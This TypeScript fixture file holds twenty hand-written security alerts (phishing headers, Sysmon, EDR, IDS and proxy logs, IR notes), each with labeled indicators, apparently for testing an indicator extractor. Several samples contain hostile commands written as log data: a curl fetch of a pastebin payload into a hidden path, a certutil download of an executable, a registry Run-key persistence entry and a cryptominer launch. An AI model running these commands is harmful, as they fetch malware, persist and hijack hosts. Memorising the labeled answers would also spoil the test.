import { createHash } from 'node:crypto';
import type { LabeledDoc } from '../documents';
import { btc } from '../iocs';
import { Prng } from '../prng';

/** Real-looking digests for the fixtures (hand-typed hex gets lengths wrong). */
const digest = (alg: 'md5' | 'sha1' | 'sha256', seed: string): string =>
  createHash(alg).update(seed).digest('hex');

const md5a = digest('md5', 'hw-2');
const sha256a = digest('sha256', 'hw-2');
const sha256b = digest('sha256', 'hw-1');
const sha1c = digest('sha1', 'hw-6');
const sha256d = digest('sha256', 'hw-8');
const md5e = digest('md5', 'hw-9');
const sha1e = digest('sha1', 'hw-9');
const sha256e = digest('sha256', 'hw-9');
const sha256f = digest('sha256', 'hw-15');
const sha256g = digest('sha256', 'hw-16');
const md5h = digest('md5', 'hw-17');
const sha1h = digest('sha1', 'hw-17');
const wallet = btc(new Prng(4)).text;
const ja3s = digest('md5', 'ja3s');

const t = (type: string, value: string) => ({ type, value });

/**
 * Alerts written by hand in the shapes analysts see (mail headers, Sysmon, CEF, EDR and IdP JSON,
 * proxy and DHCP logs, TI notes), labeled by hand. Not used by any unit test.
 */
export const HAND_WRITTEN: LabeledDoc[] = [
  {
    id: 'hw-1-phish-headers',
    kind: 'text',
    text: [
      'Subject: Urgent: invoice overdue',
      'From: "Accounts Payable" <billing@acme-invoices.net>',
      'Reply-To: payments@secure-pay-portal.xyz',
      'Received: from mail.acme-invoices.net (mail.acme-invoices.net [185.234.72.19]) by mx1.contoso.com',
      'X-Originating-IP: 185.234.72.19',
      'Body link: hxxps://secure-pay-portal[.]xyz/inv/88213?u=jdoe',
      `Attachment: Invoice_88213.one (sha256 ${sha256b})`,
    ].join('\n'),
    truth: [
      t('email', 'billing@acme-invoices.net'),
      t('domain', 'acme-invoices.net'),
      t('email', 'payments@secure-pay-portal.xyz'),
      t('domain', 'secure-pay-portal.xyz'),
      t('domain', 'mail.acme-invoices.net'),
      t('ipv4', '185.234.72.19'),
      t('domain', 'mx1.contoso.com'),
      t('url', 'https://secure-pay-portal.xyz/inv/88213?u=jdoe'),
      t('sha256', sha256b),
    ],
  },
  {
    id: 'hw-2-sysmon-process',
    kind: 'json',
    text: JSON.stringify({
      '@timestamp': '2026-11-22T21:14:07.551Z',
      event: { code: '1', provider: 'Microsoft-Windows-Sysmon' },
      host: { name: 'FIN-WS-017' },
      winlog: {
        event_data: {
          Image: 'C:\\Windows\\System32\\rundll32.exe',
          CommandLine: 'rundll32.exe C:\\Users\\mlee\\AppData\\Local\\Temp\\upd.dll,#1',
          ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
          Hashes: `MD5=${md5a.toUpperCase()},SHA256=${sha256a.toUpperCase()}`,
          User: 'CORP\\mlee',
          FileVersion: '10.0.19041.1',
          OriginalFileName: 'RUNDLL32.EXE',
        },
      },
    }),
    truth: [
      t('file_path', 'C:\\Windows\\System32\\rundll32.exe'),
      t('file_path', 'C:\\Users\\mlee\\AppData\\Local\\Temp\\upd.dll'),
      t('file_path', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE'),
      t('md5', md5a),
      t('sha256', sha256a),
    ],
  },
  {
    id: 'hw-3-cef-fortigate',
    kind: 'text',
    text: 'CEF:0|Fortinet|FortiGate-100F|7.2.5|0419016384|ips: ET TROJAN Possible Metasploit Payload|8|src=10.12.4.33 dst=45.95.147.236 spt=50412 dpt=4444 proto=6 act=blocked cs1Label=attack cs1=Metasploit.Meterpreter dhost=45.95.147.236 deviceExternalId=FG100FTK22001234 request=/payload.bin msg=CVE-2017-0144 exploitation attempt',
    truth: [t('ipv4', '10.12.4.33'), t('ipv4', '45.95.147.236'), t('cve', 'CVE-2017-0144')],
  },
  {
    id: 'hw-4-ir-note',
    kind: 'text',
    text: `IR note: the actor staged tooling at hxxp://103.75.190[.]12:8080/x64.bin and exfiltrated to mega[.]nz using rclone (config in C:\\ProgramData\\rc\\rclone.exe). C2 resolved to cdn-telemetry[.]online (AS209588). Ransom note demands BTC to ${wallet}. Techniques: T1567.002, T1486, T1059.003. Version 1.66.0 of rclone was used.`,
    truth: [
      t('url', 'http://103.75.190.12:8080/x64.bin'),
      t('ipv4', '103.75.190.12'),
      t('domain', 'mega.nz'),
      t('file_path', 'C:\\ProgramData\\rc\\rclone.exe'),
      t('domain', 'cdn-telemetry.online'),
      t('asn', 'AS209588'),
      t('btc', wallet),
      t('mitre_technique', 'T1567.002'),
      t('mitre_technique', 'T1486'),
      t('mitre_technique', 'T1059.003'),
    ],
  },
  {
    id: 'hw-5-linux-auth',
    kind: 'text',
    text: [
      '<86>Nov 22 03:14:55 web-prod-3 sshd[22871]: Accepted password for deploy from 2a03:b0c0:3:d0::1b2:7001 port 53122 ssh2',
      'Nov 22 03:15:10 web-prod-3 sudo: deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/curl -fsSL http://pastebin.com/raw/xT9kQ2 -o /tmp/.x/kworker',
    ].join('\n'),
    truth: [
      t('ipv6', '2a03:b0c0:3:d0::1b2:7001'),
      t('file_path', '/home/deploy'),
      t('file_path', '/usr/bin/curl'),
      t('url', 'http://pastebin.com/raw/xT9kQ2'),
      t('domain', 'pastebin.com'),
      t('file_path', '/tmp/.x/kworker'),
    ],
  },
  {
    id: 'hw-6-defender-advanced-hunting',
    kind: 'json',
    text: JSON.stringify({
      AlertId: 'da638012345678901234_-1234567890',
      DeviceId: digest('sha1', 'device-44'),
      DeviceName: 'hr-lt-044.northwind.com',
      Title: 'Suspicious file dropped',
      Severity: 'Medium',
      SHA1: sha1c,
      FileName: 'payroll_update.zip',
      FolderPath: 'C:\\Users\\akim\\Downloads\\payroll_update.zip',
      RemoteUrl: 'https://payroll-update.zip/download',
      RemoteIP: '2.57.122.4',
      InitiatingProcessCommandLine: '"chrome.exe" --type=utility',
      MitreTechniques: ['T1204.002'],
      ReportId: '1234',
    }),
    truth: [
      t('domain', 'hr-lt-044.northwind.com'),
      t('sha1', sha1c),
      t('file_path', 'C:\\Users\\akim\\Downloads\\payroll_update.zip'),
      t('url', 'https://payroll-update.zip/download'),
      t('domain', 'payroll-update.zip'),
      t('ipv4', '2.57.122.4'),
      t('mitre_technique', 'T1204.002'),
    ],
  },
  {
    id: 'hw-7-elastic-network',
    kind: 'json',
    text: JSON.stringify({
      rule: { name: 'Cobalt Strike default user agent' },
      source: { ip: '172.16.20.15', port: 51234 },
      destination: { ip: '23.106.215.76', port: 443, domain: 'static.cloudfront-cdn.info' },
      user_agent: {
        original: 'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0; BOIE9;ENUS)',
      },
      url: { original: '/ca', domain: 'static.cloudfront-cdn.info' },
      tls: { server: { ja3s: ja3s, x509: { serial_number: '5D3F1A2B' } } },
      observer: { version: '8.15.0' },
    }),
    truth: [
      t('ipv4', '172.16.20.15'),
      t('ipv4', '23.106.215.76'),
      t('domain', 'static.cloudfront-cdn.info'),
      t('md5', ja3s),
    ],
  },
  {
    id: 'hw-8-falcon-summary',
    kind: 'text',
    text: `Falcon detection on host DESKTOP-7QK2M (10.40.2.77, MAC 3C-52-82-1A-9F-04): certutil.exe -urlcache -split -f http://files.dropbox-share.cc/a/b/svc.txt C:\\Windows\\Temp\\svc.exe. SHA256 ${sha256d}. Tactic TA0011, technique T1105.`,
    truth: [
      t('ipv4', '10.40.2.77'),
      t('mac', '3c:52:82:1a:9f:04'),
      t('url', 'http://files.dropbox-share.cc/a/b/svc.txt'),
      t('domain', 'files.dropbox-share.cc'),
      t('file_path', 'C:\\Windows\\Temp\\svc.exe'),
      t('sha256', sha256d),
      t('mitre_technique', 'T1105'),
    ],
  },
  {
    id: 'hw-9-wazuh-fim',
    kind: 'json',
    text: JSON.stringify({
      rule: { level: 7, description: 'Integrity checksum changed.', id: '550', mitre: { id: ['T1565.001'] } },
      agent: { id: '012', name: 'db-02', ip: '10.0.3.12' },
      syscheck: {
        path: '/etc/ssh/sshd_config',
        md5_after: md5e,
        sha1_after: sha1e,
        sha256_after: sha256e,
        uname_after: 'root',
      },
      full_log:
        "File '/etc/ssh/sshd_config' modified\nMode: scheduled\nChanged attributes: size,mtime,md5,sha1,sha256",
    }),
    truth: [
      t('mitre_technique', 'T1565.001'),
      t('ipv4', '10.0.3.12'),
      t('file_path', '/etc/ssh/sshd_config'),
      t('md5', md5e),
      t('sha1', sha1e),
      t('sha256', sha256e),
    ],
  },
  {
    id: 'hw-10-advisory',
    kind: 'text',
    text: 'Advisory: exploitation of CVE-2024-3400 observed from 2001:67c:2e8:22::c100:68b and 45.76.231[.]10 (ASN 20473). Spearphish sender hr-notice@m1crosoft-support[.]com. Dropper ssdeep 1536:kX9bQyQm3fTz0yYx+Ck3QG6gVdNn7tJmHwYvqH/0JpC:kXgQm3fT0yY1CkAG6gVdN7tHsYvq',
    truth: [
      t('cve', 'CVE-2024-3400'),
      t('ipv6', '2001:67c:2e8:22::c100:68b'),
      t('ipv4', '45.76.231.10'),
      t('asn', 'AS20473'),
      t('email', 'hr-notice@m1crosoft-support.com'),
      t('domain', 'm1crosoft-support.com'),
      t('ssdeep', '1536:kX9bQyQm3fTz0yYx+Ck3QG6gVdNn7tJmHwYvqH/0JpC:kXgQm3fT0yY1CkAG6gVdN7tHsYvq'),
    ],
  },
  {
    id: 'hw-11-reg-persistence',
    kind: 'text',
    text: 'reg.exe add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v OneDriveUpdate /t REG_SZ /d "C:\\Users\\Public\\Libraries\\onedrive.exe" /f',
    truth: [
      t('registry_key', 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'),
      t('file_path', 'C:\\Users\\Public\\Libraries\\onedrive.exe'),
    ],
  },
  {
    id: 'hw-12-squid',
    kind: 'text',
    text: '1732280000.123 245 10.8.0.14 TCP_TUNNEL/200 5120 CONNECT login.micr0soft-online.com:443 - HIER_DIRECT/104.21.55.10 - "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51"',
    truth: [t('ipv4', '10.8.0.14'), t('domain', 'login.micr0soft-online.com'), t('ipv4', '104.21.55.10')],
  },
  {
    id: 'hw-13-entra-signin',
    kind: 'json',
    text: JSON.stringify({
      userPrincipalName: 'c.ortiz@fabrikam.com',
      ipAddress: '102.134.44.9',
      location: { city: 'Lagos', countryOrRegion: 'NG' },
      riskEventType: 'unfamiliarFeatures',
      appDisplayName: 'Office 365 Exchange Online',
      deviceDetail: { browser: 'Chrome 124.0.0', operatingSystem: 'Windows 10' },
      correlationId: 'c0a80b1e-4f3a-4c7e-9a1b-2d3e4f5a6b7c',
      id: digest('md5', 'signin'),
    }),
    truth: [t('email', 'c.ortiz@fabrikam.com'), t('domain', 'fabrikam.com'), t('ipv4', '102.134.44.9')],
  },
  {
    id: 'hw-14-suricata-eve',
    kind: 'json',
    text: JSON.stringify({
      timestamp: '2026-11-22T10:01:02.123456+0000',
      event_type: 'alert',
      src_ip: '192.168.5.23',
      src_port: 49822,
      dest_ip: '91.92.251.103',
      dest_port: 80,
      proto: 'TCP',
      alert: {
        signature_id: 2030358,
        signature: 'ET MALWARE AsyncRAT CnC Checkin',
        severity: 1,
        metadata: { mitre_technique_id: ['T1071'] },
      },
      http: {
        hostname: '91.92.251.103',
        url: '/gate/index.php',
        http_user_agent: 'Mozilla/4.0 (compatible; MSIE 8.0)',
      },
      flow_id: 1234567890123456,
    }),
    truth: [t('ipv4', '192.168.5.23'), t('ipv4', '91.92.251.103'), t('mitre_technique', 'T1071')],
  },
  {
    id: 'hw-15-linux-miner',
    kind: 'json',
    text: JSON.stringify({
      hostname: 'k8s-node-07',
      process: {
        executable: '/dev/shm/.x/kdevtmpfsi',
        args: [
          '/dev/shm/.x/kdevtmpfsi',
          '-o',
          'pool.supportxmr.com:3333',
          '-u',
          '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A',
        ],
      },
      parent: { executable: '/usr/sbin/cron' },
      file: { hash: { sha256: sha256f } },
      kernel_version: '5.15.0-1047-aws',
    }),
    truth: [
      t('file_path', '/dev/shm/.x/kdevtmpfsi'),
      t('domain', 'pool.supportxmr.com'),
      t('file_path', '/usr/sbin/cron'),
      t('sha256', sha256f),
    ],
  },
  {
    id: 'hw-16-mail-gateway',
    kind: 'json',
    text: JSON.stringify({
      subject: 'Your parcel is waiting',
      sender: 'dhl-notify@parcel-track.top',
      recipients: ['ap@contoso.com'],
      urls: ['https://parcel-track.top/t/8812?c=EU'],
      body_excerpt: 'Track here (https://parcel-track.top/t/8812?c=EU). Questions? support@parcel-track.top.',
      attachments: [{ name: 'label_8812.pdf.zip', sha256: sha256g }],
      sender_ip: '176.111.174.84',
    }),
    truth: [
      t('email', 'dhl-notify@parcel-track.top'),
      t('domain', 'parcel-track.top'),
      t('email', 'ap@contoso.com'),
      t('domain', 'contoso.com'),
      t('url', 'https://parcel-track.top/t/8812?c=EU'),
      t('email', 'support@parcel-track.top'),
      t('sha256', sha256g),
      t('ipv4', '176.111.174.84'),
    ],
  },
  {
    id: 'hw-17-yara',
    kind: 'text',
    text: `YARA hit on sample ${md5h}; related sha1 of dropped DLL: ${sha1h}. Memory region 0x7ffd4a2b1000 contained key ${sha256a}${md5h.slice(0, 8)} (not a hash).`,
    truth: [t('md5', md5h), t('sha1', sha1h)],
  },
  {
    id: 'hw-18-dhcp-switch',
    kind: 'text',
    text: [
      '<30>Nov 22 08:00:01 dhcp01 dhcpd[911]: DHCPACK on 10.20.0.157 to 00:1a:2b:3c:4d:5e (LAPTOP-X1) via eth0',
      'Nov 22 08:00:09 sw-core-1 %SW_MATM-4-MACFLAP_NOTIF: Host 001a.2b3c.4d5f in vlan 20 is flapping between port Gi1/0/3 and port Gi1/0/7',
    ].join('\n'),
    truth: [t('ipv4', '10.20.0.157'), t('mac', '00:1a:2b:3c:4d:5e'), t('mac', '00:1a:2b:3c:4d:5f')],
  },
  {
    id: 'hw-19-tip-feed',
    kind: 'json',
    text: JSON.stringify({
      indicator_type: 'url',
      value: 'hxxps://docs-viewer[.]online/share?id=7781',
      first_seen: '2026-11-19',
      tags: ['qakbot', 'T1566.002'],
      related: { ip: '5[.]42[.]199[.]63', domain: 'docs-viewer[.]online', asn: 'AS44477' },
    }),
    truth: [
      t('url', 'https://docs-viewer.online/share?id=7781'),
      t('domain', 'docs-viewer.online'),
      t('mitre_technique', 'T1566.002'),
      t('ipv4', '5.42.199.63'),
      t('asn', 'AS44477'),
    ],
  },
  {
    id: 'hw-20-windows-4625',
    kind: 'text',
    text: 'An account failed to log on. Subject: Security ID: S-1-0-0 Account Name: - Logon Type: 3 Account For Which Logon Failed: Account Name: administrator Account Domain: CONTOSO Failure Information: Failure Reason: Unknown user name or bad password. Status: 0xC000006D Network Information: Workstation Name: KALI Source Network Address: 89.248.163.5 Source Port: 0 Detailed Authentication Information: Logon Process: NtLmSsp Authentication Package: NTLM Key Length: 0 Process Information: Caller Process Name: C:\\Windows\\System32\\svchost.exe',
    truth: [t('ipv4', '89.248.163.5'), t('file_path', 'C:\\Windows\\System32\\svchost.exe')],
  },
];
